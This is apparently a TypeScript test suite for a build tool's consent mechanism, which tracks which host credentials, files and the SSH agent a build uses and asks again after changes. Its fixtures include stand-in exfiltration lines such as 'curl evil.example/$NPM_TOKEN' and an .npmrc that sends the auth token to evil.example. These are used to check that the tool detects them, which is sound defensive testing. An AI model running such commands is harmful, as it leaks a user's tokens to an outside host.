import assert from 'node:assert/strict';
import { chmodSync, readFileSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { hostUsesOf } from '../../../src/pipeline/gather/host-use.ts';
import { findConsent } from '../../../src/app/consent.ts';
import { homeFolder } from '../../../src/home/folder.ts';
import { requireApproval, recordApproval, unapprovedUses } from '../../../src/secret/consent.ts';
import { type HostUse, useKey } from '../../../src/secret/host-use.ts';
import { loadRoot } from '../../../src/workspace/document/load.ts';
import { folderWith, removeFolders } from '../../support/folder.ts';
import { APP, DEV, documents } from '../workspace/documents.ts';

describe('consent', () => {
  afterEach(removeFolders);

  const home = (): ReturnType<typeof homeFolder> =>
    homeFolder({ DVM_HOME: path.join(folderWith(), 'home') }, '/nowhere');
  const uses = (...names: string[]): HostUse[] => names.map((what) => ({ what, why: 'x', by: 'shop/dev' }));

  it('is requested once for each use, per folder, and again for new uses', async () => {
    const dvmHome = home();
    const requests = [
      { folder: '/code', uses: uses('a') },
      { folder: '/code', uses: uses('b', 'a') },
    ];
    assert.deepEqual(await unapprovedUses(dvmHome, requests), [{ folder: '/code', uses: uses('a', 'b') }]);
    await recordApproval(dvmHome, await unapprovedUses(dvmHome, requests));
    assert.deepEqual(await unapprovedUses(dvmHome, requests), []);
    assert.deepEqual(
      await unapprovedUses(dvmHome, [
        { folder: '/code', uses: uses('a', 'c') },
        { folder: '/other', uses: uses('a') },
      ]),
      [
        { folder: '/code', uses: uses('c') },
        { folder: '/other', uses: uses('a') },
      ],
    );
    assert.equal(statSync(dvmHome.trust).mode & 0o777, 0o600);
    assert.deepEqual(JSON.parse(readFileSync(dvmHome.trust, 'utf8')), {
      version: 2,
      folders: { '/code': { a: ['x'], b: ['x'] } },
    });
  });

  it('ignores a damaged trust file, and is requested again for approvals without a use', async () => {
    const dvmHome = home();
    await recordApproval(dvmHome, [{ folder: '/code', uses: uses('a') }]);
    for (const text of [
      '{',
      'null',
      '{"version": 2, "folders": {"/code": "a"}}',
      '{"version": 2, "folders": {"/code": ["a"]}}',
      '{"version": 2, "folders": {"/code": {"a": "x"}}}',
      '{"version": 1, "folders": {"/code": ["a"]}}',
    ]) {
      writeFileSync(dvmHome.trust, text);
      assert.equal((await unapprovedUses(dvmHome, [{ folder: '/code', uses: uses('a') }])).length, 1);
    }
  });

  it('ignores a trust file that other users can write', async function () {
    if (process.platform === 'win32') this.skip();
    const dvmHome = home();
    await recordApproval(dvmHome, [{ folder: '/code', uses: uses('a') }]);
    chmodSync(dvmHome.trust, 0o666);
    assert.equal((await unapprovedUses(dvmHome, [{ folder: '/code', uses: uses('a') }])).length, 1);
    await recordApproval(dvmHome, [{ folder: '/code', uses: uses('a') }]);
    assert.deepEqual(await unapprovedUses(dvmHome, [{ folder: '/code', uses: uses('a') }]), []);
  });

  it('keeps all approvals of concurrent writers', async () => {
    const dvmHome = home();
    await Promise.all(
      ['a', 'b', 'c', 'd'].map((what) => recordApproval(dvmHome, [{ folder: '/code', uses: uses(what) }])),
    );
    assert.deepEqual(await unapprovedUses(dvmHome, [{ folder: '/code', uses: uses('a', 'b', 'c', 'd') }]), []);
  });

  it('is required for everything that a build uses from the host', () => {
    const allowed = new Set(uses('a', 'b').map(useKey));
    requireApproval(uses('a'), allowed);
    assert.throws(() => requireApproval(uses('a', 'c'), allowed), {
      code: 'consent',
      message: /\n- c: x \(shop\/dev\)$/,
    });
    assert.throws(
      () =>
        requireApproval(
          uses('a').map((use) => ({ ...use, why: 'y' })),
          allowed,
        ),
      { code: 'consent' },
    );
  });

  const CREDENTIALS = [
    'kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: {source: env, envVar: CI_TOKEN}',
    'kind: Credential\nmetadata: {name: UNUSED, app: shop}\nspec: {source: env, envVar: UNUSED}',
  ];

  it('lists exactly what the steps use', async () => {
    const root = folderWith({
      'w.yaml': documents(APP, DEV, ...CREDENTIALS),
      'package.json': '{"dependencies": {"a": "git+ssh://git@git.example.com/a.git"}}',
    });
    const { workspaces } = await loadRoot(root);
    const [workspace] = workspaces;
    assert.ok(workspace !== undefined);
    assert.deepEqual(
      (await hostUsesOf(workspace)).map(({ what, why }) => `${what}: ${why}`),
      [
        'the SSH agent, to sign in to git.example.com: package.json',
        'the variable CI_TOKEN of this machine: as NPM_TOKEN to install dependencies',
        'the variable CI_TOKEN of this machine: as NPM_TOKEN to install tools',
        'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install dependencies, instead of its ' +
          'source, if it is set',
        'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install tools, instead of its source, if it is set',
      ],
    );
    const dvmHome = home();
    const { missing } = await findConsent(dvmHome, workspaces);
    assert.equal(missing[0]?.folder, root);
    await recordApproval(dvmHome, missing);
    assert.deepEqual((await findConsent(dvmHome, workspaces)).missing, []);
  });

  /** The uses that require consent after a change, if everything was approved before it. */
  async function newRequests(before: Record<string, string>, after: Record<string, string>): Promise<string[]> {
    const [dvmHome, root] = [home(), folderWith(before)];
    await recordApproval(dvmHome, (await findConsent(dvmHome, (await loadRoot(root)).workspaces)).missing);
    for (const [name, text] of Object.entries(after)) writeFileSync(path.join(root, name), text);
    const { missing } = await findConsent(dvmHome, (await loadRoot(root)).workspaces);
    return missing.flatMap((each) => each.uses.map(({ what, why }) => `${what}: ${why}`));
  }

  const credentialFrom = (credential: string): string =>
    `kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: ${credential}`;
  const TOKEN = credentialFrom('{source: env, envVar: NPM_TOKEN}');
  const command = (text: string, args = ''): string =>
    `kind: Workspace\nmetadata: {name: dev, app: shop}\nspec: {build: {${args}devStage: {customCommands: ` +
    `[${JSON.stringify(text)}]}}}`;
  const VARIABLE = 'the variable NPM_TOKEN of this machine';
  const npmrc = (host: string): string =>
    `@team:registry=https://${host}/npm/\n//${host}/npm/:_authToken=\${NPM_TOKEN}\n`;

  for (const [what, before, after, expected] of [
    [
      'the host that receives it',
      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
      { '.npmrc': npmrc('evil.example') },
      [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with evil.example`],
    ],
    [
      'an additional host',
      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
      { '.npmrc': npmrc('npm.example') + npmrc('[::1]:80') },
      [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with [::1]:80, npm.example`],
    ],
    [
      'files that do not affect its use',
      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
      { '.npmrc': `fund=false\n${npmrc('npm.example')}`, 'package.json': '{"homepage": "https://shop.example"}' },
      [],
    ],
    [
      'a command that uses it',
      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN | npm login'), TOKEN) },
      { 'w.yaml': documents(APP, command('curl evil.example/$NPM_TOKEN'), TOKEN) },
      [`${VARIABLE}: as NPM_TOKEN in the command curl evil.example/$NPM_TOKEN`],
    ],
    [
      'a build arg that its command uses',
      { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: npm.example}, '), TOKEN) },
      { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: evil.example}, '), TOKEN) },
      [`${VARIABLE}: as NPM_TOKEN in the command curl $UPLOAD/$NPM_TOKEN, with UPLOAD=evil.example`],
    ],
    [
      'another command of the same build',
      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN) },
      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN, command('true').replace('dev', 'other')) },
      [],
    ],
  ] as [string, Record<string, string>, Record<string, string>, string[]][]) {
    it(`is requested only for new uses after a change of ${what}`, async () => {
      assert.deepEqual(await newRequests({ 'w.yaml': documents(APP, DEV, TOKEN), ...before }, after), expected);
    });
  }

  it('names the target of a link, and is requested again if the target changes', async () => {
    const outside = folderWith({ token: 'x', key: 'y' });
    const root = folderWith({
      'w.yaml': documents(APP, command('echo $NPM_TOKEN'), credentialFrom('{source: file, path: token}')),
    });
    symlinkSync(path.join(outside, 'token'), path.join(root, 'token'));
    const home2 = home();
    const { missing } = await findConsent(home2, (await loadRoot(root)).workspaces);
    assert.ok(
      missing[0]?.uses.some((use) => use.what === `the file ${outside}/token`),
      JSON.stringify(missing),
    );
    await recordApproval(home2, missing);
    unlinkSync(path.join(root, 'token'));
    symlinkSync(path.join(outside, 'key'), path.join(root, 'token'));
    assert.deepEqual(
      (await findConsent(home2, (await loadRoot(root)).workspaces)).missing.flatMap((each) =>
        each.uses.map((use) => use.what),
      ),
      [`the file ${outside}/key`],
    );
  });

  it('distinguishes uses that differ only in their truncated part', async () => {
    const long = `echo $NPM_TOKEN ${'x'.repeat(400)}`;
    const [request] = await newRequests(
      { 'w.yaml': documents(APP, command(`${long}a`), TOKEN) },
      { 'w.yaml': documents(APP, command(`${long}b`), TOKEN) },
    );
    assert.match(request ?? '', /x… \(SHA-256 [0-9a-f]{16}\)$/);
  });

  it('is not required for a build that uses nothing', async () => {
    const root = folderWith({ 'w.yaml': documents(APP, DEV), 'package.json': '{}' });
    assert.deepEqual((await findConsent(home(), (await loadRoot(root)).workspaces)).missing, []);
  });

  it('is required for an app outside the opened folder, even through a link', async () => {
    const outside = folderWith({ 'package.json': '{}' });
    const root = folderWith({
      'infra/w.yaml': documents(APP.replace('path: .', `path: ${outside}`), DEV),
      'infra/v.yaml': documents(
        APP.replace('shop', 'near').replace('path: .', 'path: ../api'),
        DEV.replace('shop', 'near'),
      ),
      'api/package.json': '{}',
    });
    const [near, far] = (await loadRoot(root)).workspaces;
    assert.ok(near !== undefined && far !== undefined);
    assert.deepEqual(await hostUsesOf(near), []);
    assert.deepEqual(
      (await hostUsesOf(far)).map(({ what }) => what),
      [`files of the folder ${outside}`],
    );
  });
});
